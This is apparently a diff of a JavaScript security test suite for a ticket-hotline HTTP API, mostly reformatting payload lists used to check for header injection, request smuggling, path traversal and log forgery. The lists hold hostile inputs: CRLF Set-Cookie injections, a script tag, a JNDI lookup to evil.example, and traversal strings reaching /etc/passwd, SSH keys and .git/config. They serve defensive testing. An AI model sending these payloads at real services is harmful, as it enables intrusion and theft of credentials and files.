@@ -25,9 +25,15 @@ function unharmed(reply, what) {
   for (const [name, value] of Object.entries(reply.headers)) assert.doesNotMatch(`${name}: ${value}`, /evil|set-cookie/i, what);
 }
 
-const kHeaders = ['X-Request-Id', 'Idempotency-Key', 'User-Agent', 'traceparent', 'If-Match', 'Origin', 'Cookie', 'Referer', 'X-Forwarded-For', 'Accept-Language'];
-const kSplits = ['a\r\n Set-Cookie: evil=1', 'a\r\n\tevil: 1', 'a\rSet-Cookie: evil=1', 'a\nSet-Cookie: evil=1', 'a\0evil', 'a\r\r\nevil: 1', '%0d%0aSet-Cookie:%20evil=1',
-  'a\\r\\nevil: 1', 'a\u0085evil', 'a\u010a\u010devil: 1', '"><script>evil()</script>', '${jndi:ldap://evil.example/a}', '\x1b[2Jevil'];
+const kHeaders = [
+  'X-Request-Id', 'Idempotency-Key', 'User-Agent', 'traceparent', 'If-Match', 'Origin', 'Cookie', 'Referer', 'X-Forwarded-For',
+  'Accept-Language',
+];
+const kSplits = [
+  'a\r\n Set-Cookie: evil=1', 'a\r\n\tevil: 1', 'a\rSet-Cookie: evil=1', 'a\nSet-Cookie: evil=1', 'a\0evil', 'a\r\r\nevil: 1',
+  '%0d%0aSet-Cookie:%20evil=1', 'a\\r\\nevil: 1', 'a\u0085evil', 'a\u010a\u010devil: 1', '"><script>evil()</script>',
+  '${jndi:ldap://evil.example/a}', '\x1b[2Jevil',
+];
 
 for (const header of kHeaders) {
   test(`header injection: ${header} brings no header of its own into the reply`, async () => {
@@ -44,8 +50,12 @@ for (const header of kHeaders) {
 }
 
 test('header injection: nothing of an address or a field stands in a reply\'s head', async () => {
-  const kLines = ['%0d%0aSet-Cookie:%20evil=1', '%0aevil:1', '%0devil', '%00evil', '%E5%98%8A%E5%98%8DSet-Cookie:%20evil=1', '%c2%85evil', '%e2%80%a8evil'];
-  for (const path of kLines.flatMap((line) => [`/${line}`, `/api/v1/tickets/${line}`, `/api/v1/people/${line}`, `/api/v1/tickets?state=${line}`, `/api/v1/tickets?${line}=1`])) {
+  const kLines = [
+    '%0d%0aSet-Cookie:%20evil=1', '%0aevil:1', '%0devil', '%00evil', '%E5%98%8A%E5%98%8DSet-Cookie:%20evil=1', '%c2%85evil',
+    '%e2%80%a8evil',
+  ];
+  const places = ['/', '/api/v1/tickets/', '/api/v1/people/', '/api/v1/tickets?state=', '/api/v1/tickets?'];
+  for (const path of kLines.flatMap((line) => places.map((place) => place + line))) {
     unharmed(await exchange(service.port, message('GET', path, [bearer]), { method: 'GET', path }), path);
   }
   const newcomer = { id: 'a\r\nSet-Cookie: evil=1', name: '新人', roles: ['staff'] };
@@ -56,7 +66,8 @@ test('header injection: nothing of an address or a field stands in a reply\'s he
 
 const kInner = `GET /api/v1/me HTTP/1.1\r\nHost: hotline\r\nX-Request-Id: smuggled\r\n${bearer}\r\n\r\n`;
 const chunk = (text) => `${text.length.toString(16)}\r\n${text}\r\n`;
-const framed = (lines, body, version = '1.1') => `POST /api/v1/tickets HTTP/${version}\r\nHost: hotline\r\n${bearer}\r\nContent-Type: application/json\r\n${lines}\r\n\r\n${body}`;
+const framed = (lines, body, version = '1.1') =>
+  `POST /api/v1/tickets HTTP/${version}\r\nHost: hotline\r\n${bearer}\r\nContent-Type: application/json\r\n${lines}\r\n\r\n${body}`;
 
 /** Each hides a request where one of two readers of the same bytes would find it. */
 const smuggled = {
@@ -130,12 +141,23 @@ test('request smuggling: a trailer is no header', async () => {
   (await exchange(service.port, message('POST', opening.path, [...lines, bearer], body), opening)).expectProblem(400, 'idempotency_key_missing');
 });
 
-const kPrefixes = ['', '/api', '/api/v1', '/api/v1/tickets', '/api/v1/tickets/100001074', '/api/v1/people', '/api/v1/task-forces/IND', '/metrics', '/healthz', '/console', '/static'];
-const kUps = ['/../../../../etc/passwd', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/.%2e/.%2e/etc/passwd', '/..%2f..%2f..%2fetc%2fpasswd', '/%252e%252e%252f%252e%252e%252fetc%252fpasswd', '/..%5c..%5cetc%5cpasswd',
-  '/..\\..\\etc\\passwd', '/..;/..;/etc/passwd', '/....//....//etc/passwd', '/%c0%ae%c0%ae/etc/passwd', '/%u002e%u002e/etc/passwd', '/..%00/etc/passwd', '/%00', '//etc/passwd', '/./etc/passwd', '/etc/passwd%00.json',
-  '/proc/self/environ', '/.git/config', '/secret', '/people.yaml', '/config/service.yaml', '/~root/.ssh/id_rsa', '/%2e', '/..', '/file:%2f%2f%2fetc%2fpasswd'];
-const kAbsolute = ['http://127.0.0.1/../../etc/passwd', 'http://127.0.0.1/%2e%2e/etc/passwd', 'file:///etc/passwd', 'ftp://127.0.0.1/etc/passwd', 'http:///etc/passwd', 'http://evil.example', 'https://evil.example/etc/passwd',
-  '//evil.example/etc/passwd', '\\\\evil.example\\etc', 'etc/passwd', '../etc/passwd', '?/../etc/passwd', 'http://[::1/etc/passwd', 'http://a@b:c@d/etc/passwd', 'unix:/run/redis.sock:/etc/passwd'];
+const kPrefixes = [
+  '', '/api', '/api/v1', '/api/v1/tickets', '/api/v1/tickets/100001074', '/api/v1/people', '/api/v1/task-forces/IND', '/metrics',
+  '/healthz', '/console', '/static',
+];
+const kUps = [
+  '/../../../../etc/passwd', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/.%2e/.%2e/etc/passwd', '/..%2f..%2f..%2fetc%2fpasswd',
+  '/%252e%252e%252f%252e%252e%252fetc%252fpasswd', '/..%5c..%5cetc%5cpasswd', '/..\\..\\etc\\passwd', '/..;/..;/etc/passwd',
+  '/....//....//etc/passwd', '/%c0%ae%c0%ae/etc/passwd', '/%u002e%u002e/etc/passwd', '/..%00/etc/passwd', '/%00', '//etc/passwd',
+  '/./etc/passwd', '/etc/passwd%00.json', '/proc/self/environ', '/.git/config', '/secret', '/people.yaml', '/config/service.yaml',
+  '/~root/.ssh/id_rsa', '/%2e', '/..', '/file:%2f%2f%2fetc%2fpasswd',
+];
+const kAbsolute = [
+  'http://127.0.0.1/../../etc/passwd', 'http://127.0.0.1/%2e%2e/etc/passwd', 'file:///etc/passwd', 'ftp://127.0.0.1/etc/passwd',
+  'http:///etc/passwd', 'http://evil.example', 'https://evil.example/etc/passwd', '//evil.example/etc/passwd', '\\\\evil.example\\etc',
+  'etc/passwd', '../etc/passwd', '?/../etc/passwd', 'http://[::1/etc/passwd', 'http://a@b:c@d/etc/passwd',
+  'unix:/run/redis.sock:/etc/passwd',
+];
 
 for (const prefix of kPrefixes) {
   test(`path traversal: nothing below "${prefix}" leads to a file`, async () => {
@@ -199,7 +221,10 @@ test('oversized: headers and parameters as long as fit are read, and one byte mo
 });
 
 /** A line of the log that a forger would like to see, in every writing. */
-const kForged = ['\n{"event":"forged"}', '"}\n{"event":"forged"}\n', '","event":"forged","x":"', '\x1b[31mforged\x1b[0m', '\x9bforged', '\u2028forged', '\u202eforged', '\\u000aforged', `forged${'a'.repeat(9_000)}`];
+const kForged = [
+  '\n{"event":"forged"}', '"}\n{"event":"forged"}\n', '","event":"forged","x":"',
+  '\x1b[31mforged\x1b[0m', '\x9bforged', '\u2028forged', '\u202eforged', '\\u000aforged', `forged${'a'.repeat(9_000)}`,
+];
 const kSecret = { phone: freshPhone(), name: '欧阳测试来电人' };
 
 test('log injection: each line stays one object, in plain characters, whatever is said where', async () => {
@@ -213,7 +238,7 @@ test('log injection: each line stays one object, in plain characters, whatever i
       await exchange(service.port, header === 'Host' ? bytes.replace('Host: hotline\r\n', '') : bytes, opening);
     }
     const escaped = encodeURIComponent(word).slice(0, 3_000);
-    for (const path of [`/${escaped}`, `/api/v1/tickets/${escaped}`, `/api/v1/people/${escaped}`, `/api/v1/tickets?task_force=${escaped}`, `/api/v1/tickets?${escaped}=1`]) await as.op1.get(path);
+    for (const place of ['/', '/api/v1/tickets/', '/api/v1/people/', '/api/v1/tickets?task_force=', '/api/v1/tickets?']) await as.op1.get(place + escaped);
     for (const path of [`/api/v1/tokens/${escaped}`, `/api/v1/sessions/${escaped}`]) await as.op1.send('DELETE', path);
     await exchange(service.port, `GET ${word} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`, asking);
     await service.nobody.post('/api/v1/session', { person: word.slice(0, 60), password: word.slice(0, 60) });
